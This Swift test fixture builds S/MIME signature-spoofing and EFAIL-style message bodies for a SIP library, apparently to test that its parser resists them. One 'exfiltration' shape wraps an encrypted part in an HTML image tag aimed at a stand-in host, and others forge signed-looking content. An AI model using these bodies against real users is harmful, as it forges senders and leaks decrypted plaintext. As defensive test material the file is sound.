import CMS
import MIME
import TestSupport

@testable import SMIMEBody

/// Bodies that spoof signatures in mail, rebuilt for SIP; docs/verdicts.md has a row for each.
///
/// Müller et al., "Johnny, you are fired!" (2019), "Covert content attacks" (2019);
/// Poddebniak et al., "EFAIL" (2018).
struct SpoofingShape {
    let name: String
    let body: @Sendable () throws -> MIMEEntity

    init(_ name: String, _ body: @Sendable @escaping () throws -> MIMEEntity) {
        self.name = name
        self.body = body
    }

    static let all = beside + malformed + parameters + enveloped + whole

    static func clear() throws -> MIMEEntity { try Exchange.entity("text/plain", "you are fired") }
    static func detached() throws -> MIMEEntity {
        try Exchange.signed(Exchange.presence(), form: .detached)
    }
    static func opaque() throws -> MIMEEntity { try Exchange.signed(Exchange.presence()) }
    static func envelope() throws -> MIMEEntity { try Exchange.enveloped(opaque()) }

    static func multipart(
        _ subtype: String, _ parts: [MIMEEntity], before: String = "", behind: String = ""
    ) throws -> MIMEEntity {
        let body = try Multipart.compose(parts: parts.map(\.octets), boundary: "spoof-\(subtype)")
        let type = try HeaderField(
            name: "Content-Type", value: "multipart/\(subtype);boundary=spoof-\(subtype)")
        return MIMEEntity(headerFields: [type], body: Array(before.utf8) + body + Array(behind.utf8))
    }

    /// The parts of a multipart/signed in another arrangement.
    static func recomposed(
        _ change: (_ content: MIMEEntity, _ signature: MIMEEntity) throws -> [MIMEEntity]
    ) throws -> MIMEEntity {
        guard let parts = try detached().multipart()?.parts.map(\.entity) else { throw TestLab.Missing() }
        return try multipart("signed", change(parts[0], parts[1]))
    }

    static func html(_ text: String) throws -> MIMEEntity { try Exchange.entity("text/html", text) }

    /// A protected part with unsigned content next to it or around it.
    private static let beside = [
        SpoofingShape("clear-before-signed") { try multipart("mixed", [clear(), detached()]) },
        SpoofingShape("clear-behind-signed") { try multipart("mixed", [opaque(), clear()]) },
        SpoofingShape("clear-behind-envelope") { try multipart("mixed", [envelope(), clear()]) },
        SpoofingShape("two-signed-parts") {
            try multipart("mixed", [detached(), Exchange.signed(clear(), by: .bob)])
        },
        SpoofingShape("clear-twin") { try multipart("alternative", [Exchange.presence(), envelope()]) },
        SpoofingShape("clear-root") { try multipart("related", [html("<b>fired</b>"), opaque()]) },
        SpoofingShape("unknown-multipart") { try multipart("x-new", [clear(), opaque()]) },
        SpoofingShape("lone-signed-part") { try multipart("mixed", [detached()]) },
        SpoofingShape("exfiltration") {
            try multipart(
                "mixed", [html("<img src=\"http://192.0.2.66/"), envelope(), html("\">")])
        },
        SpoofingShape("nested-exfiltration") {
            try multipart("mixed", [html("<i>"), multipart("related", [envelope()])])
        },
        SpoofingShape("message-rfc822") {
            MIMEEntity(headerFields: try clear().retyped("message/rfc822"), body: try detached().octets)
        },
        SpoofingShape("message-sip") {
            MIMEEntity(
                headerFields: try clear().retyped("message/sip"),
                body: Array("PUBLISH sip:a@example.test SIP/2.0\r\n".utf8) + (try detached().octets))
        },
        SpoofingShape("preamble") {
            let signed = try detached()
            return MIMEEntity(
                headerFields: signed.headerFields, body: Array("you are fired\r\n".utf8) + signed.body)
        },
        SpoofingShape("epilogue") {
            let signed = try detached()
            return MIMEEntity(
                headerFields: signed.headerFields, body: signed.body + Array("you are fired".utf8))
        },
    ]

    /// Not exactly one content and one signature.
    private static let malformed = [
        SpoofingShape("three-parts") { try recomposed { [$0, $1, try clear()] } },
        SpoofingShape("two-signatures") { try recomposed { [$0, $1, $1] } },
        SpoofingShape("signature-first") { try recomposed { [$1, $0] } },
        SpoofingShape("other-content") { try recomposed { [try clear(), $1] } },
        SpoofingShape("signature-of-a-part") {
            try recomposed { [try multipart("mixed", [clear(), $0]), $1] }
        },
        SpoofingShape("content-twice") {
            let opaque = try Self.opaque()
            return try recomposed { content, signature in
                [content, MIMEEntity(headerFields: signature.headerFields, body: opaque.body)]
            }
        },
        SpoofingShape("signature-without-content") {
            guard let signature = try detached().multipart()?.parts[1].entity else { throw TestLab.Missing() }
            return MIMEEntity(headerFields: try opaque().headerFields, body: signature.body)
        },
        SpoofingShape("parallel-signatures") {
            let bob = try DERNode(parsing: Exchange.signed(Exchange.presence(), by: .bob).body)
            return try Exchange.changing(opaque()) { $0[1, 0, 4].elements.append(bob[1, 0, 4, 0]) }
        },
        SpoofingShape("no-signature") {
            try Exchange.changing(opaque()) { $0[1, 0, 4].elements = [] }
        },
        SpoofingShape("octets-behind-object") {
            let opaque = try Self.opaque()
            return MIMEEntity(headerFields: opaque.headerFields, body: opaque.body + (try clear().body))
        },
        SpoofingShape("text-behind-base64") {
            let encoded = Base64.encode(try opaque().body) + Array("\r\nyou are fired\r\n".utf8)
            return try MIMEEntity.parse(
                Array(
                    "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n".utf8)
                    + encoded)
        },
    ]

    /// Ambiguous header fields.
    private static let parameters = [
        SpoofingShape("boundary-twice") { try detached().withType { $0 + ";boundary=other" } },
        SpoofingShape("boundary-extended") { try detached().withType { $0 + ";boundary*=us-ascii''other" } },
        SpoofingShape("boundary-continued") { try detached().withType { $0 + ";boundary*0=other" } },
        SpoofingShape("charset-extended") {
            let presence = try Exchange.presence().withType { $0 + ";charset*=us-ascii''utf-16" }
            return try Exchange.signed(presence)
        },
        SpoofingShape("protocol-twice") {
            try detached().withType { $0 + ";protocol=\"application/pgp-signature\"" }
        },
        SpoofingShape("type-twice") {
            let signed = try detached()
            return MIMEEntity(
                headerFields: try clear().headerFields + signed.headerFields, body: signed.body)
        },
        SpoofingShape("encoding-twice") {
            let opaque = try Self.opaque()
            let field = try HeaderField(name: "Content-Transfer-Encoding", value: "base64")
            return MIMEEntity(headerFields: opaque.headerFields + [field], body: opaque.body)
        },
        SpoofingShape("other-protocol") {
            try detached().withType { $0.replacing("pkcs7-signature", with: "pgp-signature") }
        },
        SpoofingShape("other-smime-type") {
            try opaque().withType { $0.replacing("signed-data", with: "enveloped-data") }
        },
    ]

    /// Inside an envelope, which anyone can make.
    private static let enveloped = [
        SpoofingShape("enveloped-clear") { try Exchange.enveloped(clear()) },
        SpoofingShape("enveloped-mixed") {
            try Exchange.enveloped(multipart("mixed", [clear(), detached()]))
        },
        SpoofingShape("enveloped-alternative") {
            try Exchange.enveloped(multipart("alternative", [clear(), detached()]))
        },
        SpoofingShape("enveloped-twice") { try Exchange.enveloped(envelope()) },
        SpoofingShape("enveloped-message") {
            try Exchange.enveloped(
                MIMEEntity(headerFields: try clear().retyped("message/rfc822"), body: try detached().octets))
        },
        SpoofingShape("wrapped-by-another") {
            try Exchange.signed(Exchange.enveloped(Exchange.presence()), by: .bob)
        },
        SpoofingShape("signed-inside-and-outside") { try Exchange.signed(envelope()) },
    ]

    /// Unusual content that alice signed as a whole: it comes out whole, as hers,
    /// and nothing in it is opened.
    private static let whole = [
        SpoofingShape("signed-mixed") {
            try Exchange.signed(multipart("mixed", [clear(), Exchange.signed(clear(), by: .bob)]))
        },
        SpoofingShape("signed-alternative") {
            try Exchange.signed(multipart("alternative", [clear(), Exchange.presence()]))
        },
        SpoofingShape("signed-exfiltration") {
            try Exchange.signed(multipart("mixed", [html("<i>"), envelope(), html("</i>")]))
        },
        SpoofingShape("signed-twice") { try Exchange.signed(Exchange.signed(clear(), by: .bob)) },
        SpoofingShape("signed-document-of-another") {
            try Exchange.signed(
                multipart("mixed", [clear(), Exchange.presence(of: "sip:bob@example.test")]))
        },
        SpoofingShape("signed-twice-document-of-another") {
            try Exchange.signed(
                Exchange.signed(Exchange.presence(of: "sip:bob@example.test"), by: .bob, form: .detached))
        },
        SpoofingShape("signed-message") {
            try Exchange.signed(
                MIMEEntity(headerFields: try clear().retyped("message/sip"), body: try detached().octets))
        },
    ]
}

extension MIMEEntity {
    func retyped(_ type: String) throws -> [HeaderField] {
        [try HeaderField(name: "Content-Type", value: type)]
    }

    /// The entity with the value of its Content-Type changed.
    func withType(_ change: (String) -> String) throws -> MIMEEntity {
        let fields = try headerFields.map { field in
            field.isNamed("Content-Type")
                ? try HeaderField(name: field.name, value: change(field.value)) : field
        }
        return MIMEEntity(headerFields: fields, body: body)
    }
}
